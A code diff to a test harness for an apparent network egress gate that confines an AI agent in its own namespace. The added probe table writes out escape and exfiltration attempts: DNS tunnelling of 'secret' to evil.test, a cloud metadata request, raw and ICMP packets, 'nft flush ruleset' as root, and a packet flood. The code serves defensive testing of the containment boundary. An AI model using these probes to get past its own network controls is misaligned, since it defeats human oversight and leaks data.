@@ -37,6 +37,8 @@ with StandIns() as vendors:
     text = re.sub("listen: {explicit.*", "listen: " + listen, gate.config.read_text())
     text = re.sub(r"  - {id: demo-agent, match: .*", "  - {id: demo-agent, match: " + agent + "}", text)
     gate.config.write_text(text + more + chr(10))
+    if "tproxy" in more:  # the listener needs a right once; the process that serves has none
+        gate.run_words = ("run", "--user", "root")
     intent = vendors.stripe.charged(100000)
     gate.start()
     print(intent, flush=True)
@@ -99,12 +101,12 @@ class Gate:
         self.process.stdin.flush()
         return self.process.stdout.readline().split()
 
+    def command(self, *words: str) -> list[str]:
+        return [sys.executable, "-m", "holdgate", *words, "-c", str(self.folder / "holdgate.yaml")]
+
     def holdgate(self, *words: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
         return subprocess.run(
-            [
-                *("ip", "netns", "exec", self.netns, sys.executable, "-m", "holdgate"),
-                *(*words, "-c", str(self.folder / "holdgate.yaml")),
-            ],
+            ["ip", "netns", "exec", self.netns, *self.command(*words)],
             capture_output=True,
             text=True,
             timeout=60,
@@ -186,6 +188,10 @@ class Lab:
             self.agent_ns, sys.executable, "-c", PROBES + textwrap.dedent(script), *words, check=check
         ).strip()
 
+    def python(self, netns: str, script: str, *through: str) -> str:
+        """Somebody else who tries what an agent tries, with the system's Python."""
+        return self.run(netns, *through, "/usr/bin/python3", "-c", PROBES + f"print({script})").strip()
+
     def curl(self, *words: str) -> str:
         return self.run(
             *(self.agent_ns, "curl", "-sS", "-i", "-m", "10", "--cacert", str(self.ca), *words), check=False
@@ -233,3 +239,92 @@ def question(name):
     labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
     return struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
 """
+
+# --- what an agent behind an interface tries, in both modes of the boundary ---
+
+FOREIGN = {"4": "203.0.113.9", "6": "2001:db8:9::9"}
+
+
+TCP_PORTS = (1, 22, 25, 53, 80, 443, 853, 3306, 5353, 8080, 8443, 9090, 18080, 18443, 65535)
+ROWS = {
+    "broadcast": "udp('10.77.1.255', 9, wait=.2), udp('255.255.255.255', 9, wait=.2)",
+    "multicast": "udp('239.255.255.250', 1900, wait=.2), udp('ff02::1%a0', 9, wait=.2)",
+    "fragments": "udp('203.0.113.9', 9, b'x' * 20000, wait=.2)",
+    "metadata service": "tcp('169.254.169.254', 80, b'GET / HTTP/1.1\\r\\n\\r\\n')",
+    "DNS to a resolver of the agent's": "udp('203.0.113.53', 53, question('c2VjcmV0.evil.test'))",
+    "DNS over TLS": "tcp('203.0.113.53', 853, bytes.fromhex('16030100050100000100'))",
+    "UDP to the gate itself": "[udp('10.77.1.1', p, wait=.1) for p in (15353, 5353, 67, 9)]",
+    "the gate's other network": "udp('10.77.2.2', 9, wait=.1), tcp('10.77.2.2', 22)",
+    "root where it is": "os.system('nft flush ruleset'), udp('203.0.113.9', 9, wait=.1)",
+}
+for version, host in FOREIGN.items():
+    ping = 1 if version == "4" else 58
+    ROWS |= {
+        f"TCP, IPv{version}": f"[tcp('{host}', p) for p in {TCP_PORTS}]",
+        f"UDP, IPv{version}": f"[udp('{host}', p, wait=.1) for p in (9, 123, 853, 4500, 51820)]",
+        f"ping, IPv{version}": f"raw('{host}', {ping}, b'\\x08\\0\\0\\0secret')",
+        f"other protocols, IPv{version}": f"[raw('{host}', p, b'x' * 24) for p in (41, 47, 50, 132, 253)]",
+    }
+GET = "print(tcp(sys.argv[1], int(sys.argv[2]), b'GET /healthz HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))"
+ASK = "print(sorted({row[4][0] for row in socket.getaddrinfo(sys.argv[1], 443)}))"
+FLOOD = """
+end = time.monotonic() + 60
+sent = 0
+six, four = (socket.socket(f, socket.SOCK_DGRAM) for f in (socket.AF_INET6, socket.AF_INET))
+open(sys.argv[1] + ".begun", "w").close()
+while not os.path.exists(sys.argv[1]) and time.monotonic() < end:
+    for sock, host in ((four, "203.0.113.9"), (six, "2001:db8:9::9")):
+        for port in (9, 443, 853):
+            try:
+                sock.sendto(b"secret", (host, port))
+            except OSError:
+                pass
+            sent += 1
+    tcp = socket.socket()
+    tcp.setblocking(False)
+    tcp.connect_ex(("203.0.113.9", 22))
+    tcp.close()
+print(sent)
+"""
+
+
+def refund(gate: Gate, amount: int, *more: str) -> list[str]:
+    form = ["-d", f"payment_intent={gate.intent}", "-d", f"amount={amount}"]
+    return ["https://api.stripe.com/v1/refunds", "-H", "Authorization: Bearer sk_test_demo", *form, *more]
+
+
+def packets_after_rules(lab: Lab, gate: Gate) -> int:
+    """How many packets of a connection from before the rules arrive after them."""
+    gate.network("down", "--open")
+    server = subprocess.Popen(
+        ["ip", "netns", "exec", lab.internet_ns, "python3", "-c",
+         "import socket; socket.setdefaulttimeout(10)\n"
+         "s = socket.create_server(('0.0.0.0', 7777)); print('up', flush=True)\n"
+         "c, _ = s.accept()\nwhile c.recv(99): print('got', flush=True)"],
+        stdout=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    assert server.stdout is not None and server.stdout.readline() == "up\n"
+    agent = subprocess.Popen(
+        ["ip", "netns", "exec", lab.agent_ns, "python3", "-c",
+         "import socket, sys; socket.setdefaulttimeout(10)\n"
+         "s = socket.create_connection(('10.77.2.2', 7777))\n"
+         "for line in sys.stdin: s.send(line.encode())"],
+        stdin=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    try:
+        assert agent.stdin is not None
+        agent.stdin.write("before\n")
+        agent.stdin.flush()
+        assert server.stdout.readline() == "got\n"
+        gate.network("up")
+        before = lab.escaped()
+        agent.stdin.write("after\n")
+        agent.stdin.flush()
+        agent.communicate(timeout=20)
+        return lab.escaped() - before
+    finally:
+        server.kill()
+        agent.kill()
+        server.wait()
+        agent.wait()
+        gate.network("up")
